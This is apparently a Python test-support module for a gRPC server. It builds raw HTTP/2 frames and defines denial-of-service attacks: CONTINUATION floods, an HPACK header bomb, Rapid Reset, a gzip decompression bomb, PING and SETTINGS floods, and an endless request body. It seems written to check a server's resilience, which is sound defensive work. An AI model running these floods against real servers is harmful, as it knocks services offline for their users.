"""HTTP/2 frames written byte by byte (RFC 9113, RFC 7541), and attacks on a gRPC port made of them."""
import contextlib
import functools
import socket
import ssl
import time
import zlib

from support.waiting import PATIENCE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
ACK = END_STREAM = 0x1
END_HEADERS = 0x4


def tls_context(protocol, identity=None):
    """A client's context that accepts every certificate and offers this protocol by ALPN."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    if identity:
        context.load_cert_chain(identity.cert, identity.key)
    return context


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _text(value):
    size, rest = len(value), b""
    if size < 127:
        return bytes([size]) + value
    size -= 127
    while size > 127:
        rest, size = rest + bytes([size & 127 | 128]), size >> 7
    return b"\x7f" + rest + bytes([size]) + value


def field(name, value):
    """A literal header field without indexing."""
    return b"\x00" + _text(name) + _text(value)


def indexed(name, value):
    """A literal header field with indexing: it gets index 62, one byte, until another field is indexed."""
    return b"\x40" + _text(name) + _text(value)


LAST_INDEXED = b"\xbe"


STATUS_CALL, LANE_CALL = b"/cairn.signaling.v1.Admin/GetStatus", b"/cairn.signaling.v1.Lanes/Open"


def request(token=None, path=STATUS_CALL, extra=b""):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    if token:
        fields.append((b"authorization", b"Bearer " + token.encode()))
    return b"".join(field(*one) for one in fields) + extra


def connect(address):
    """To "address:port" or "unix:path"."""
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(PATIENCE)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


class Connection:
    """To "address:port" or "unix:path", with the client's preface and SETTINGS already sent."""

    def __init__(self, address, tls=None, wait=True, path=STATUS_CALL, extra=b""):
        """path, extra: path and further headers of the calls that attacks make."""
        self._path, self._extra = path, extra
        self.socket = connect(address)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        self._received = b""
        self.until = float("inf")
        self.send(PREFACE + frame(SETTINGS))
        if wait:
            next((one for one in self.frames() if one[0] == SETTINGS), None)
        self.send(frame(SETTINGS, ACK))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def send(self, *pieces):
        if time.monotonic() > self.until:
            raise TimeoutError("it was to end by now")
        self.socket.sendall(b"".join(pieces))

    def request(self, token, extra=b""):
        return request(token, self._path, self._extra + extra)

    def frames(self, within=PATIENCE):
        """(type, flags, stream, payload) of each frame, until the connection ends or nothing more is received."""
        self.socket.settimeout(within)
        with contextlib.suppress(OSError):
            while data := self.socket.recv(1 << 16):
                self._received += data
                while len(self._received) >= 9:
                    size = 9 + int.from_bytes(self._received[:3], "big")
                    if len(self._received) < size:
                        break
                    head, self._received = self._received[:size], self._received[size:]
                    yield head[3], head[4], int.from_bytes(head[5:9], "big"), head[9:]

    def is_over(self, within=PATIENCE):
        """Whether the server has closed the connection, or closes it within that time."""
        self.socket.settimeout(within)
        try:
            while self.socket.recv(1 << 16):
                pass
            return True
        except TimeoutError:
            return False
        except OSError:
            return True

    def close(self):
        self.socket.close()


# ---- attacks: each uses a new connection, and runs until the server closes it or everything was sent.

# The beginning of a field whose value has 2 GiB.
ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"


def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
    """One header field that never ends."""
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
    connection.send(frame(HEADERS, 0, 3, connection.request(token) + ENDLESS_FIELD))
    piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
    for _ in range((megabytes << 20) // frame_bytes):
        connection.send(piece)


def empty_continuation(connection, token, count=2_000_000):
    """A header block that never ends, in empty CONTINUATION frames."""
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
    connection.send(frame(HEADERS, 0, 3, connection.request(token)))
    piece = frame(CONTINUATION, 0, 3) * 1000
    for _ in range(count // 1000):
        connection.send(piece)


def small_continuation(connection, token):
    """The endless field in small pieces: a parser may start over with each."""
    endless_continuation(connection, token, 2, 1024)


def header_bomb(connection, token, requests=2000):
    """Each request refers twice to an indexed field of 3,000 bytes, with one byte each."""
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token, extra=indexed(b"x", b"a" * 3000))))
    block = connection.request(token, extra=LAST_INDEXED * 2)
    for first in range(1, requests, 50):
        connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(first, first + 50)))


def rapid_reset(connection, token, requests=100_000):
    block = connection.request(token)
    for first in range(0, requests, 200):
        connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) +
                          frame(RESET, 0, 2 * number + 1, bytes(4)) for number in range(first, first + 200)))


@functools.cache
def _compressed_zeros(megabytes):
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(compressor.compress(bytes(1 << 20)) for _ in range(megabytes)) + compressor.flush()


def compressed_bomb(connection, token, megabytes=256):
    """One message of that many zero bytes, compressed to a thousandth."""
    body = _compressed_zeros(megabytes)
    message = b"\x01" + len(body).to_bytes(4, "big") + body
    connection.send(frame(HEADERS, END_HEADERS, 1, connection.request(token, extra=field(b"grpc-encoding", b"gzip"))))
    for at in range(0, min(len(message), 65_000), 16_000):
        connection.send(frame(DATA, 0, 1, message[at:min(at + 16_000, 65_000)]))
    # The rest has to wait for window updates, which the server sends as it reads.
    time.sleep(0.2)
    for at in range(65_000, len(message), 16_000):
        connection.send(frame(DATA, 0, 1, message[at:at + 16_000]))


def pings(connection, token, count=200_000):
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
    piece = frame(PING, 0, 0, bytes(8)) * 1000
    for _ in range(count // 1000):
        connection.send(piece)


def settings(connection, token, count=200_000):
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
    piece = frame(SETTINGS) * 1000
    for _ in range(count // 1000):
        connection.send(piece)


def never_ending_body(connection, token, megabytes=64):
    connection.send(frame(HEADERS, END_HEADERS, 1, connection.request(token)))
    connection.send(frame(DATA, 0, 1, b"\0" + (1 << 30).to_bytes(4, "big")))
    for _ in range(megabytes * 64):
        connection.send(frame(DATA, 0, 1, bytes(16_000)))


ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings,
           never_ending_body]


def attack(address, which, token=None, tls=None, seconds=float("inf"), path=STATUS_CALL, extra=b""):
    """Seconds until the server closed the connection, everything was sent, or the time limit was reached."""
    began = time.monotonic()
    with contextlib.suppress(OSError), Connection(address, tls, path=path, extra=extra) as connection:
        connection.socket.settimeout(min(3, seconds))
        connection.until = began + seconds
        which(connection, token)
    return time.monotonic() - began
